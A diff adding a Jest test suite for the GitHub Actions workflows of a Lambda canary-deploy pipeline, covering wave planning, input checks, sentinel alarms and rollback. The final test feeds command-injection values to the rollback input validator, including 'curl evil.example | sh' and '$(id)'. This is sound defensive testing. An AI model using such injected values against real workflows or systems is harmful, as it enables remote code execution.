@@ -1,0 +1,298 @@
+// The shell and node snippets inside our workflows, run as the runner runs them (run-step.ts).
+import { describe, it, expect, beforeAll } from '@jest/globals';
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse } from 'yaml';
+import { encodeRecord, parseDeployment, type AliasRecord } from '../../packages/core/src/deployment.js';
+import { FAKE_YQ, parseOutputs, runStep, workflowStep } from './run-step.js';
+
+const root = process.cwd();
+const PIPELINE = join(root, '.github/workflows/pipeline.yml');
+const DEPLOY_STAGE = join(root, '.github/workflows/deploy-stage.yml');
+const SENTINEL = join(root, '.github/workflows/sentinel.yml');
+const ROLLBACK = join(root, '.github/workflows/rollback.yml');
+const EXAMPLE = 'examples/orders/safe-deploy.yml';
+
+/**
+ * Runs the plan action as the runner does and returns its outputs: the committed bundle, or its
+ * source through tsx while a rebuild has emptied dist/plan.
+ */
+function planOutputs(config: string): Record<string, string> {
+  const dir = mkdtempSync(join(tmpdir(), 'safe-deploy-plan-'));
+  const output = join(dir, 'output');
+  const summary = join(dir, 'summary');
+  writeFileSync(output, '');
+  writeFileSync(summary, '');
+  const bundle = join(root, 'dist/plan/index.js');
+  const args = existsSync(bundle) ? [bundle] : [join(root, 'node_modules/tsx/dist/cli.mjs'), 'actions/plan/src/index.ts'];
+  const result = spawnSync(process.execPath, args, {
+    cwd: root,
+    encoding: 'utf8',
+    env: { PATH: process.env.PATH, INPUT_CONFIG: config, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary },
+  });
+  expect(result.status).toBe(0);
+  return parseOutputs(readFileSync(output, 'utf8'));
+}
+
+describe('pipeline.yml: the waves step turns the plan into deploy-stage inputs', () => {
+  const step = workflowStep(PIPELINE, 'plan', 'waves');
+  let plan: Record<string, string>;
+  let waves: Array<Record<string, unknown>>;
+  const baseEnv = () => ({
+    WAVES: plan.waves ?? '',
+    CONFIG: EXAMPLE,
+    PRE_TRAFFIC_TEST: '',
+    POST_TRAFFIC_TEST: 'npm run smoke',
+    REHEARSE_STAGE: 'gamma',
+    VERIFY_SUFFIX: '-verify',
+    MAX_WAVES: '16',
+  });
+
+  beforeAll(() => {
+    plan = planOutputs(EXAMPLE);
+    const result = runStep(step, baseEnv(), { bin: { yq: FAKE_YQ } });
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    waves = JSON.parse(result.outputs.waves ?? 'null');
+    expect(result.outputs.count).toBe(String(waves.length));
+    expect(result.outputs.service).toBe('orders');
+  });
+
+  it('keeps every wave of the plan, in order', () => {
+    const planned = JSON.parse(plan.waves ?? '[]') as Array<{ wave: string }>;
+    expect(waves.map((w) => w.wave)).toEqual(planned.map((w) => w.wave));
+    expect(waves.map((w) => w.wave).slice(0, 6)).toEqual(['alpha-1', 'beta-1', 'gamma-onebox', 'gamma-1', 'gamma-2', 'prod-onebox']);
+  });
+
+  it('gives every key pipeline.yml reads from a wave, for every wave', () => {
+    const text = readFileSync(PIPELINE, 'utf8');
+    const used = [...new Set([...text.matchAll(/fromJSON\(needs\.plan\.outputs\.waves\)\[\d+\]\.([A-Za-z0-9]+)/g)].map((m) => m[1] as string))];
+    expect(used.length).toBeGreaterThan(15);
+    for (const wave of waves) for (const key of used) expect(wave).toHaveProperty(key);
+  });
+
+  it('fills the service-wide settings from the config and the stage settings from the plan', () => {
+    const byId = Object.fromEntries(waves.map((w) => [w.wave, w]));
+    expect(byId['alpha-1']).toMatchObject({
+      environment: 'alpha',
+      regions: 'us-west-2',
+      traffic: '100%',
+      functions: 'orders-api,orders-worker',
+      alias: 'live',
+      blockAlarms: 'orders-high-severity',
+      rollbackAlarms: 'orders-high-severity,prefix:orders-',
+      maxErrorRate: '1%',
+      maxP99Duration: '800ms',
+      bakeDuration: '10m',
+      bakeMinInvocations: '50',
+      bakeMode: 'watch',
+      postTrafficTest: 'npm run test:integration', // the stage's own tests win
+      rehearseRollback: false,
+    });
+    expect(byId['beta-1']?.postTrafficTest).toBe('npm run smoke');
+    expect(byId['prod-onebox']).toMatchObject({ regions: 'us-west-1', traffic: '5%', bakeDuration: '1h', verifyEnvironment: '' });
+  });
+
+  it('sends a verify bake to the `<environment>-verify` environment', () => {
+    const prod1 = waves.find((w) => w.wave === 'prod-1');
+    expect(prod1).toMatchObject({ bakeMode: 'verify', bakeDuration: '12h', verifyEnvironment: 'prod-verify' });
+  });
+
+  it('rehearses the rollback in the first wave of the chosen stage only', () => {
+    expect(waves.filter((w) => w.rehearseRollback).map((w) => w.wave)).toEqual(['gamma-onebox']);
+  });
+
+  it('refuses a plan with more waves than the pipeline has jobs', () => {
+    const many = JSON.stringify(Array.from({ length: 17 }, (_, i) => ({ ...JSON.parse(plan.waves ?? '[]')[0], wave: `prod-${i + 1}` })));
+    const result = runStep(step, { ...baseEnv(), WAVES: many }, { bin: { yq: FAKE_YQ } });
+    expect(result.status).toBe(1);
+    expect(result.stdout).toContain('the plan has 17 waves; pipeline.yml runs at most 16');
+    expect(result.outputs).toEqual({});
+  });
+
+  it('has one deploy job per possible wave, each needing the one before', () => {
+    const doc = parse(readFileSync(PIPELINE, 'utf8')) as { jobs: Record<string, { needs?: string[]; uses?: string }> };
+    for (let i = 1; i <= 16; i++) {
+      const id = `wave-${String(i).padStart(2, '0')}`;
+      const job = doc.jobs[id];
+      expect(job?.uses).toBe('$/.github/workflows/deploy-stage.yml');
+      expect(job?.needs).toContain(i === 1 ? 'build' : `wave-${String(i - 1).padStart(2, '0')}`);
+    }
+  });
+});
+
+describe('deploy-stage.yml snippets', () => {
+  const check = workflowStep(DEPLOY_STAGE, 'deploy', 'check-inputs');
+  const valid = { BAKE_MODE: 'watch', PROMOTE: 'false', PROMOTE_BAKE_DURATION: '', PROMOTE_BAKE_MODE: 'watch', VERIFY_ENVIRONMENT: '', ZIP_FILE: '', ARTIFACT: '' };
+
+  it('check-inputs accepts a plain wave and refuses contradictions, naming the input', () => {
+    expect(runStep(check, valid).status).toBe(0);
+    const cases: Array<[Record<string, string>, string]> = [
+      [{ BAKE_MODE: 'sometimes' }, 'input bake-mode'],
+      [{ PROMOTE: 'true' }, 'input promote-bake-duration: required with promote'],
+      [{ PROMOTE: 'true', PROMOTE_BAKE_DURATION: '1h', BAKE_MODE: 'verify', VERIFY_ENVIRONMENT: 'prod-verify' }, 'input bake-mode: verify is only possible for the last bake'],
+      [{ BAKE_MODE: 'verify' }, 'input verify-environment: required'],
+      [{ ARTIFACT: 'safe-deploy-package' }, 'input zip-file: required with artifact'],
+    ];
+    for (const [change, message] of cases) {
+      const result = runStep(check, { ...valid, ...change });
+      expect(result.status).toBe(1);
+      expect(result.stdout).toContain(message);
+    }
+    expect(runStep(check, { ...valid, BAKE_MODE: 'verify', VERIFY_ENVIRONMENT: 'prod-verify' }).status).toBe(0);
+  });
+
+  const deployment = {
+    format: 1,
+    alias: 'live',
+    commit: 'abc',
+    run: '1',
+    traffic: 0,
+    shiftedAt: '2026-11-26T07:00:00Z',
+    targets: [
+      { region: 'us-west-2', function: 'orders-api', alias: 'live', stable: '3', candidate: '4', weight: 0, revision: null, record: '' },
+      { region: 'cn-north-1', function: 'orders-api', alias: 'live', stable: '7', candidate: '8', weight: 0, revision: null, record: '' },
+    ],
+  };
+
+  it('candidates gives each candidate its qualified ARN, in the right partition', () => {
+    const result = runStep(workflowStep(DEPLOY_STAGE, 'deploy', 'candidates'), { DEPLOYMENT: JSON.stringify(deployment), AWS_ACCOUNT: '123456789012' });
+    expect(result.status).toBe(0);
+    expect(result.outputs.arns).toBe('arn:aws:lambda:us-west-2:123456789012:function:orders-api:4,arn:aws-cn:lambda:cn-north-1:123456789012:function:orders-api:8');
+  });
+
+  it('the test steps hand the command to bash through env, with the candidate ARNs', () => {
+    const step = workflowStep(DEPLOY_STAGE, 'deploy', 'pre-traffic-test');
+    const ok = runStep(step, { SAFE_DEPLOY_TEST_COMMAND: 'echo "testing $SAFE_DEPLOY_CANDIDATE_ARNS"; test -n "$SAFE_DEPLOY_STAGE"', SAFE_DEPLOY_CANDIDATE_ARNS: 'arn:x', SAFE_DEPLOY_STAGE: 'gamma' });
+    expect(ok.status).toBe(0);
+    expect(ok.stdout).toContain('testing arn:x');
+    expect(runStep(step, { SAFE_DEPLOY_TEST_COMMAND: 'false; echo not reached' }).status).toBe(1);
+  });
+
+  it('rehearse-verify passes only when every shifted alias was rolled back to its stable version', () => {
+    const step = workflowStep(DEPLOY_STAGE, 'deploy', 'rehearse-verify');
+    const shifted = { ...deployment, targets: deployment.targets.map((t) => ({ ...t, weight: 0.1 })) };
+    const both = [
+      { region: 'us-west-2', function: 'orders-api', from: '3', to: '3' },
+      { region: 'cn-north-1', function: 'orders-api', from: '7', to: '7' },
+    ];
+    expect(runStep(step, { DEPLOYMENT: JSON.stringify(shifted), ROLLED_BACK: JSON.stringify(both) }).status).toBe(0);
+    const one = runStep(step, { DEPLOYMENT: JSON.stringify(shifted), ROLLED_BACK: JSON.stringify(both.slice(0, 1)) });
+    expect(one.status).toBe(1);
+    expect(one.stdout).toContain('cn-north-1/orders-api: expected a rollback to 7, got no change');
+  });
+});
+
+describe('sentinel.yml', () => {
+  const record = (state: AliasRecord['state'], stable: string, candidate: string, weight: number): string =>
+    encodeRecord({ v: 1, stable, candidate, previous: null, weight, state, commit: 'abcdef123456', run: '99', at: 1_790_000_000 });
+  // What `aws lambda get-alias` answers per region and function (null: no such alias).
+  const aliases: Record<string, Record<string, unknown> | null> = {
+    'us-west-1/orders-api': { FunctionVersion: '3', Description: record('baking', '3', '4', 0.05), RevisionId: 'rev-1' },
+    'us-west-1/orders-worker': { FunctionVersion: '8', Description: record('baking', '8', '9', 0.05), RevisionId: 'rev-2' },
+    'us-east-2/orders-api': { FunctionVersion: '4', Description: record('promoted', '3', '4', 1), RevisionId: 'rev-3' },
+    'us-east-2/orders-worker': { FunctionVersion: '9', Description: 'managed by terraform', RevisionId: 'rev-4' },
+    'eu-west-1/orders-api': { FunctionVersion: '3', Description: record('shifting', '3', '4', 0.5), RevisionId: 'rev-5' },
+    'eu-west-1/orders-worker': null,
+  };
+  const fakeAws = `#!/usr/bin/env node
+const a = process.argv.slice(2);
+const at = (flag) => a[a.indexOf(flag) + 1];
+const aliases = ${JSON.stringify(aliases)};
+const hit = aliases[at('--region') + '/' + at('--function-name')];
+if (a[0] !== 'lambda' || a[1] !== 'get-alias' || at('--name') !== 'live') { console.error('fake aws: unexpected ' + a.join(' ')); process.exit(2); }
+if (!hit) { console.error('An error occurred (ResourceNotFoundException) when calling the GetAlias operation: Alias not found'); process.exit(254); }
+console.log(JSON.stringify({ Name: 'live', ...hit }));
+`;
+  const findEnv = { FUNCTIONS: 'orders-api,orders-worker', REGIONS: 'us-west-1,us-east-2,eu-west-1', ALIAS: 'live', SERVICE: 'orders', STAGE: 'prod', RUN_ID: '123' };
+
+  it('find lists only aliases whose record says shifting or baking, as a deployment the rollback action accepts', () => {
+    const result = runStep(workflowStep(SENTINEL, 'watch', 'find'), findEnv, { bin: { aws: fakeAws } });
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    expect(result.outputs.count).toBe('3');
+    expect(result.outputs.regions).toBe('us-west-1,eu-west-1');
+    const deployment = parseDeployment(result.outputs.deployment ?? '');
+    expect(deployment.targets.map((t) => `${t.region}/${t.function} ${t.stable}<-${t.candidate} ${t.revision}`)).toEqual([
+      'us-west-1/orders-api 3<-4 rev-1',
+      'us-west-1/orders-worker 8<-9 rev-2',
+      'eu-west-1/orders-api 3<-4 rev-5',
+    ]);
+  });
+
+  it('find fails (and so alerts) when an alias cannot be read', () => {
+    const broken = fakeAws.replace("if (!hit) {", "if (at('--region') === 'us-east-2') { console.error('AccessDeniedException'); process.exit(255); }\nif (!hit) {");
+    const result = runStep(workflowStep(SENTINEL, 'watch', 'find'), findEnv, { bin: { aws: broken } });
+    expect(result.status).not.toBe(0);
+    expect(result.stderr).toContain('us-east-2 orders-api:live: AccessDeniedException');
+  });
+
+  it('firing keeps the in-flight aliases of the regions where an alarm fires', () => {
+    const find = runStep(workflowStep(SENTINEL, 'watch', 'find'), findEnv, { bin: { aws: fakeAws } });
+    const step = workflowStep(SENTINEL, 'watch', 'firing');
+    const alarms = [
+      { region: 'us-west-1', name: 'orders-high-severity', state: 'OK' },
+      { region: 'eu-west-1', name: 'orders-high-severity', state: 'ALARM' },
+    ];
+    const env = { STATE: 'ALARM', ALARMS: JSON.stringify(alarms), DEPLOYMENT: find.outputs.deployment ?? '', OUTCOME: 'failure', FAIL_ON: 'ALARM' };
+    const result = runStep(step, env);
+    expect(result.status).toBe(0);
+    expect(result.outputs.count).toBe('1');
+    expect(result.outputs.alarms).toBe('orders-high-severity (eu-west-1)');
+    expect(parseDeployment(result.outputs.deployment ?? '').targets.map((t) => `${t.region}/${t.function}`)).toEqual(['eu-west-1/orders-api']);
+
+    const quiet = runStep(step, { ...env, STATE: 'OK', OUTCOME: 'success', ALARMS: JSON.stringify(alarms.map((a) => ({ ...a, state: 'OK' }))) });
+    expect(quiet.status).toBe(0);
+    expect(quiet.outputs.count).toBe('0');
+
+    const unreadable = runStep(step, { ...env, STATE: '', ALARMS: '' });
+    expect(unreadable.status).toBe(1);
+    expect(unreadable.stdout).toContain('could not read the rollback alarms');
+    expect(unreadable.outputs).toEqual({});
+  });
+
+  it('stages reads every stage of the config, and nothing when there is no config', () => {
+    const step = workflowStep(SENTINEL, 'targets', 'stages');
+    const all = runStep(step, { CONFIG: EXAMPLE, STAGES: '' }, { bin: { yq: FAKE_YQ } });
+    expect(all.status).toBe(0);
+    const stages = JSON.parse(all.outputs.stages ?? '[]') as Array<Record<string, string>>;
+    expect(stages.map((s) => s.stage)).toEqual(['alpha', 'beta', 'gamma', 'prod']);
+    expect(stages[3]).toMatchObject({ environment: 'prod', functions: 'orders-api,orders-worker', alias: 'live', alarms: 'orders-high-severity,prefix:orders-' });
+    const prod = runStep(step, { CONFIG: EXAMPLE, STAGES: 'prod' }, { bin: { yq: FAKE_YQ } });
+    expect(prod.outputs.count).toBe('1');
+    const none = runStep(step, { CONFIG: 'no/such/config.yml', STAGES: '' });
+    expect(none.status).toBe(0);
+    expect(none.outputs).toEqual({ stages: '[]', count: '0' });
+    const unknown = runStep(step, { CONFIG: EXAMPLE, STAGES: 'prdo' }, { bin: { yq: FAKE_YQ } });
+    expect(unknown.status).toBe(1);
+    expect(unknown.stdout).toContain('no stage prdo in the config');
+  });
+});
+
+describe('rollback.yml: dispatch inputs are checked before anything runs', () => {
+  const step = workflowStep(ROLLBACK, 'rollback', 'targets');
+  const env = { CONFIG: EXAMPLE, REGIONS: 'us-west-1, us-east-2', FUNCTIONS: '', ALIAS: '', VERSION: 'previous' };
+
+  it('reads the functions and alias from the config when not given', () => {
+    const result = runStep(step, env, { bin: { yq: FAKE_YQ } });
+    expect(result.status).toBe(0);
+    expect(result.outputs).toEqual({ regions: 'us-west-1, us-east-2', functions: 'orders-api,orders-worker', alias: 'live', version: 'previous' });
+  });
+
+  it.each([
+    ['REGIONS', 'us-west-1; curl evil.example | sh', 'input regions'],
+    ['REGIONS', 'us-west-1\nfunctions=attacker', 'input regions'],
+    ['FUNCTIONS', '$(id)', 'input functions'],
+    ['FUNCTIONS', 'orders-api`id`', 'input functions'],
+    ['ALIAS', 'live";id;#', 'input alias'],
+    ['VERSION', '${{ secrets.X }}', 'input version'],
+    ['VERSION', '3 && id', 'input version'],
+  ])('refuses %s=%j and writes no output', (name, value, message) => {
+    const result = runStep(step, { ...env, FUNCTIONS: 'orders-api', ALIAS: 'live', [name]: value }, { bin: { yq: FAKE_YQ } });
+    expect(result.status).toBe(1);
+    expect(result.stdout).toContain(message);
+    expect(result.outputs).toEqual({});
+  });
+});
